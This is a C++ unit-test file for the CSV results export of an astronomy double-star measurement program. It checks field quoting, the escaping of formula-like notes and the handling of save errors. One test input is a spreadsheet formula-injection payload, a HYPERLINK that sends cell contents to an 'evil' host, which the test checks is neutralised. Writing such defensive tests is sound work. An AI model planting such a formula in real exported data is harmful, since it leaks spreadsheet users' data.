// results.csv: one row per save beside results.txt, which keeps its bytes;
// a field that holds the separator, a quote or a line end is quoted.
#include "results/ResultsCsv.h"
#include "results/ResultsFile.h"

#include "common/Error.h"
#include "support/TempDir.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>

using namespace corvane;

namespace {

std::string readAll(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    return std::string(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
}

ResultsCsvFields sampleFields(const std::string& notes) {
    ResultsCsvFields f;
    f.line.recordDate = "3/7/25";
    f.line.designation = "STF 2";
    f.line.raHours = "12";
    f.line.raMinutes = "34";
    f.line.raSeconds = "56";
    f.line.decDegrees = "+45";
    f.line.decMinutes = "00";
    f.line.decSeconds = "00";
    f.line.epochJ = "2025.18";
    f.line.epochB = "2025.181";
    f.line.separation = "3,21"; // a decimal comma, as the window may show it
    f.line.positionAngle = "123.45";
    f.line.validFrames = 180;
    f.line.notes = notes;
    f.separationStderr = "0.02";
    f.positionAngleStderr = "0.15";
    f.pixelScale = "1.5012";
    f.pixelScaleStderr = "0.0021";
    f.driftAngleStderr = "0.05";
    f.sepPxSd = "0.31";
    f.screenAngleSd = "1.2";
    f.framesMeasured = 200;
    f.framesAccepted = 180;
    f.framesClipped = 3;
    f.method = "Peak Search";
    f.video = "pair.avi";
    f.timeFrom = "0.100";
    f.timeTo = "19.900";
    f.calibration = "drift";
    f.julianDate = "2460740.81234";
    f.orientation = "mirrored";
    f.frameFrom = 5;
    f.frameTo = 204;
    f.framesEffective = "61";
    f.artificialSepBias = "-0.120";
    f.artificialSepBiasStderr = "0.030";
    f.artificialPaBias = "0.40";
    f.artificialPaBiasStderr = "0.10";
    f.artificialCopies = "120";
    f.biasCorrected = "no";
    return f;
}

const std::string kTail =
    ",0.02,0.15,1.5012,0.0021,0.05,0.31,1.2,200,180,3,Peak Search,pair.avi,"
    "0.100,19.900,drift,,,,,2460740.81234,mirrored,5,204,61,-0.120,0.030,0.40,0.10,120,"
    "no"; // speckle's columns empty

struct QuotingCase {
    const char* name;
    std::string notes;
    std::string expectedNotesField;
};

class CsvQuoting : public ::testing::TestWithParam<QuotingCase> {};

TEST_P(CsvQuoting, NotesFieldIsQuotedOnlyWhenItMustBe) {
    const QuotingCase& c = GetParam();
    EXPECT_EQ(buildResultsCsvRow(sampleFields(c.notes)),
              "3/7/25,STF 2,12 34 56,+45 00 00,2025.18,2025.181,\"3,21\",123.45,180," +
                  c.expectedNotesField + kTail);
}

INSTANTIATE_TEST_SUITE_P(
    Notes, CsvQuoting,
    ::testing::Values(QuotingCase{"plain", "seeing good", "seeing good"},
                      QuotingCase{"tab_and_accent", "seeing\tgöod", "seeing\tgöod"},
                      QuotingCase{"comma", "wind, gusts", "\"wind, gusts\""},
                      QuotingCase{"quote", "\"good\" seeing", "\"\"\"good\"\" seeing\""},
                      QuotingCase{"line_end", "a\r\nb", "\"a\r\nb\""},
                      QuotingCase{"formula", "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
                                  "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""},
                      QuotingCase{"minus", "-2+3", "'-2+3"},
                      QuotingCase{"at", "@SUM(A1)", "'@SUM(A1)"},
                      QuotingCase{"tab_then_formula", "\t=1+1", "'\t=1+1"},
                      QuotingCase{"carriage_return", "\r=1", "\"'\r=1\""},
                      QuotingCase{"not_utf8", "\xFF\xFE ok \xC3", "\uFFFD\uFFFD ok \uFFFD"}),
    [](const auto& info) { return std::string(info.param.name); });

TEST(ResultsRecord, EachSaveAddsTheLineToTheTextFileAndTheRowToTheCsvBesideIt) {
    test::TempDir dir;
    const std::string txt = dir.file("results.txt");
    EXPECT_EQ(resultsCsvPath(txt), dir.file("results.csv"));
    EXPECT_EQ(resultsCsvPath(dir.file("night")), dir.file("night.csv"));
    const std::string row1 = buildResultsCsvRow(sampleFields("first"));
    const std::string row2 = buildResultsCsvRow(sampleFields("second"));
    saveResultsRecord(txt, "line 1", row1);
    saveResultsRecord(txt, "line 2", row2);
    EXPECT_EQ(readAll(txt),
              std::string("Corvane Ouput File\r\n") + kResultsHeader + "\r\nline 1\r\nline 2\r\n");
    EXPECT_EQ(readAll(dir.file("results.csv")),
              std::string(kResultsCsvHeader) + "\r\n" + row1 + "\r\n" + row2 + "\r\n");
}

TEST(ResultsRecord, ACsvThatCannotBeWrittenIsNamedAndTheLineIsKept) {
    test::TempDir dir;
    const std::string txt = dir.file("results.txt");
    std::filesystem::create_directory(dir.file("results.csv"));
    try {
        saveResultsRecord(txt, "line 1", "row");
        FAIL() << "no error";
    } catch (const Error& e) {
        EXPECT_EQ(std::string(e.what()), "File access denied: cannot open " +
                                             dir.file("results.csv") +
                                             ". The results line was saved in results.txt");
    }
    EXPECT_EQ(readAll(txt),
              std::string("Corvane Ouput File\r\n") + kResultsHeader + "\r\nline 1\r\n");
}

} // namespace
